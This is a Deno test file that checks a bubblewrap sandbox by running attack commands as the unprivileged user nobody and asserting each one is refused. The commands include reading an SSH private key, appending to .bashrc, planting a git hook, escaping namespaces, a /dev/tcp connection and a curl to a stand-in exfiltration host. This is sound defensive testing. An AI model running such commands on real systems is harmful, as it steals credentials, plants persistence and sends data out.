/**
 * The sandbox for an unprivileged user (CI runs as root): the same attacks from the user nobody, through
 * setpriv (util-linux, in /usr/bin; runuser lives in /usr/sbin, off a plain user's PATH).
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { isWindows } from "../../../lib/platform/mod.ts";
import { attackFixture, bwrapUsable, SECRET } from "./sandbox_support.ts";

const asRoot = !isWindows && Deno.uid() === 0;

interface Result {
  command: string;
  exit: number | null;
  stdout: string;
  stderr: string;
  note: string | null;
}

Deno.test({
  name:
    "sandbox as nobody: secrets unreadable, writes outside and into git hooks refused, no namespaces, no sockets",
  ignore: !asRoot || !bwrapUsable,
  fn: async () => {
    await using fixture = await attackFixture();
    const { home, workspace, outside } = fixture;
    const denoDir = join(home, "..", "deno-dir");
    await Deno.mkdir(denoDir);
    // Everything is nobody's: the sandbox, not file permissions, must refuse.
    const chown = await new Deno.Command("chown", { args: ["-R", "65534:65534", join(home, "..")] }).output();
    assert.ok(chown.success);
    const script = new URL("./_nobody_jobs.ts", import.meta.url).pathname;
    const bashrc = await Deno.readTextFile(join(home, ".bashrc"));
    const commands = [
      "id -u",
      "cat ~/.ssh/id_ed25519",
      "echo pwned >> ~/.bashrc",
      "echo x > out/through-link.txt",
      "echo '#!/bin/sh' > .git/hooks/pre-commit",
      "unshare -Ur true && echo UNSHARED; mount -t tmpfs none /mnt && echo MOUNTED; grep CapEff /proc/self/status",
      `python3 -c "import socket; socket.socket(socket.AF_UNIX).connect('/run/x')" 2>&1 | tail -1`,
      "echo hi > /dev/tcp/127.0.0.1/9 && echo CONNECTED",
      "echo ok > note.txt && git status --short",
      "curl -sS --max-time 10 https://exfiltrate.example/",
    ];
    const output = await new Deno.Command("setpriv", {
      args: [
        "--reuid=65534",
        "--regid=65534",
        "--clear-groups",
        Deno.execPath(),
        "run",
        "--no-prompt",
        "-A",
        script,
        workspace,
        ...commands,
      ],
      env: { ...fixture.env, DENO_DIR: denoDir, PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin" },
      clearEnv: true,
      stdout: "piped",
      stderr: "piped",
    }).output();
    const text = new TextDecoder().decode(output.stdout);
    assert.ok(output.success, new TextDecoder().decode(output.stderr));
    const [status, ...results] = text.trim().split("\n").map((line) => JSON.parse(line));
    assert.match(status.status, /^sandbox on \(bubblewrap/);
    // The allow-list works as nobody too: the bridge's bwrap nests the job's in a user namespace of its own.
    assert.match(status.status, /network allow-list \(\d+ domains\)$/);
    const byCommand = new Map((results as Result[]).map((result) => [result.command, result]));
    const result = (index: number) => byCommand.get(commands[index])!;
    assert.equal(result(0).stdout, "65534\n");
    assert.notEqual(result(1).exit, 0);
    assert.ok(!result(1).stdout.includes(SECRET));
    assert.match(result(1).note!, /refused a read of/);
    assert.match(result(2).note!, /refused a write to .*\.bashrc" \(outside the workspace\)/);
    assert.match(result(3).note!, /refused a write to .*outside\/through-link\.txt/);
    assert.match(result(4).note!, /protected: git runs hooks/);
    assert.doesNotMatch(result(5).stdout, /UNSHARED|MOUNTED/);
    assert.match(result(5).stdout, /CapEff:\s+0+\n/);
    assert.match(result(6).stdout, /Operation not permitted/);
    assert.doesNotMatch(result(7).stdout, /CONNECTED/);
    assert.equal(result(8).exit, 0);
    assert.match(
      result(9).note!,
      /refused a connection to "exfiltrate\.example" \(not in the allowed domains\)/,
    );
    assert.equal(await Deno.readTextFile(join(home, ".bashrc")), bashrc);
    await assert.rejects(Deno.stat(join(outside, "through-link.txt")), Deno.errors.NotFound);
    await assert.rejects(Deno.stat(join(workspace, ".git", "hooks", "pre-commit")), Deno.errors.NotFound);
  },
});
